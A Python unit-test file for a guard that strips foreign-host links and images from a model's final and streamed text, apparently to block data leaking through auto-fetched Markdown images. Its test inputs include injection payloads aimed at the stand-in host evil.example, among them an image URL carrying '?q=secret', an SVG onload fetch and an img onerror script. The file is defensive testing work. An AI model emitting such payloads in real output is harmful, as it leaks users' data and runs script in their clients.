"""Links and images in model text: only the sources' own hosts survive, in the final text and in
every streamed piece (a Markdown-rendering client fetches an image the moment it sees one)."""

from __future__ import annotations

import pytest

from qa.safety import LinkGuard, strip_foreign_links

pytestmark = pytest.mark.unit

SOURCES = ["https://news.example.org/2016/iran-s300"]


@pytest.mark.parametrize("text", [
    "Fine ![b]( //evil2.example/x.png) here.",  # space after "(" and a scheme-relative URL
    "Fine ![b][r] here.\n\n[r]: //evil.example/t.png",  # reference-style image
    "Fine [b][r] here.\n[r]: <http://evil.example/t> \"title\"",  # reference-style link
    "Fine <IMG SRC=http://evil.example/p.png> here.",
    "Fine <svg onload=fetch('http://evil.example')> here.",
    "Fine ![chart](http://evil.example.com/t.png?q=secret) here.",
    "Fine [here](  http://evil.example/x).",
    "Fine www.evil.example/x here.",
])
def test_outside_addresses_never_survive_the_final_cleaning(text: str) -> None:
    cleaned, removed = strip_foreign_links(text, SOURCES)
    assert "evil" not in cleaned and removed >= 1
    assert cleaned.startswith("Fine")


def test_links_to_the_sources_own_host_stay() -> None:
    text = "See [the article](https://news.example.org/2016/other) and https://news.example.org/x."
    assert strip_foreign_links(text, SOURCES) == (text, 0)


ATTACK = ("Iran received 29 systems [1], see [details](http://evil.example/x) and "
          "![pic]( //evil.example/p.png).\n[r]: http://evil.example/z\nThen ![c][r] and "
          "<img src=http://evil.example/q onerror=alert(1)> www.evil.example/w ok. "
          "The deal (worth $800 million) was signed [2].")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 40])
def test_streamed_pieces_carry_no_outside_address(size: int) -> None:
    guard = LinkGuard(SOURCES)
    pieces = [guard.feed(ATTACK[i : i + size]) for i in range(0, len(ATTACK), size)]
    pieces.append(guard.flush())
    assert not [p for p in pieces if "evil" in p or "//" in p or "<img" in p]
    text = "".join(pieces)
    assert text.startswith("Iran received 29 systems [1], see details and")
    assert text.endswith("The deal (worth $800 million) was signed [2].")
    released_early = [p for p in pieces[: len(pieces) // 2] if p]
    assert released_early  # held only as long as a link could still be open, not to the end
